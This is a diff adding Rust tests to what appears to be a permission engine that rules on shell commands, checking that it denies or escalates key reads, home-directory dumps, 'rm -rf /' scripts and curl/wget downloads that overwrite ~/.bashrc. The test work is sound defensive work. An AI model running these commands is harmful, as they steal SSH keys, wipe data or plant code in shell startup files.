@@ -1076,7 +1076,65 @@ fn a_command_met_again_is_decided_again_once_the_line_changed_its_context() {
         bash(&e, "find . | xargs cat; find ~ | xargs cat").action,
         Action::Deny
     );
+    // The same words as earlier commands of a line long enough that decisions are reused
+    // (more than 8 commands), after something that changes what they do.
+    let again = |cmd: &str| format!("{cmd}; ").repeat(9);
+    // After a `cd` into the protected folder: the last one reads a key.
+    let line = format!("{}cd ~/.ssh; cat id_rsa", again("cat id_rsa"));
+    assert_eq!(bash(&e, &line).action, Action::Deny);
+    // After the line wrote the script: the last run runs code it cannot read.
+    let line = format!("{}echo 'rm -rf /' > x.sh; sh x.sh", again("sh x.sh"));
+    assert_eq!(act(&bash(&e, &line)), (Action::Ask, Risk::High));
+    // After a find that listed home, the same xargs reaches what it listed.
+    let line = format!("{}find ~ | xargs cat", again("ls | xargs cat"));
+    assert_eq!(bash(&e, &line).action, Action::Deny);
     // Nothing changed: a long pipeline of the same command is decided like one of them.
     let long = format!("ls{}", " | cat".repeat(3000));
     assert_eq!(bash(&e, &long).action, Action::Allow);
+}
+
+#[test]
+fn an_allow_by_host_covers_only_commands_the_effects_model_sees_whole() {
+    let e = engine("allow bash(host \"github.com\");");
+    assert_eq!(
+        bash(&e, "curl -s https://github.com/x").action,
+        Action::Allow
+    );
+    // A URL among the arguments of another program is not a fetch from that host.
+    assert_ne!(
+        bash(&e, "rm -rf / https://github.com").action,
+        Action::Allow
+    );
+    assert_ne!(
+        bash(&e, "./deploy.sh https://github.com").action,
+        Action::Allow
+    );
+    assert_ne!(
+        bash(&e, "curl -K cfg https://github.com/x").action,
+        Action::Allow
+    );
+    assert_ne!(
+        bash(&e, "PATH=/tmp curl https://github.com/x").action,
+        Action::Allow
+    );
+}
+
+#[test]
+fn an_abbreviated_output_option_is_still_a_write() {
+    let e = engine("default allow;");
+    for line in [
+        "wget --output-doc=~/.bashrc https://x.example/i",
+        "wget --output-doc ~/.bashrc https://x.example/i",
+        "curl --out ~/.bashrc https://x.example/i",
+        "curl --dump-head ~/.profile https://x.example/i",
+    ] {
+        assert_eq!(act(&bash(&e, line)), (Action::Ask, Risk::High), "{line}");
+    }
+    // Nor may an allow about fetching cover it.
+    let e = engine("allow bash(effect [\"network-fetch\", \"write-project\"]);");
+    assert_ne!(
+        bash(&e, "wget --output-doc=out.html https://example.com").action,
+        Action::Allow,
+        "an abbreviation is not vouched for"
+    );
 }
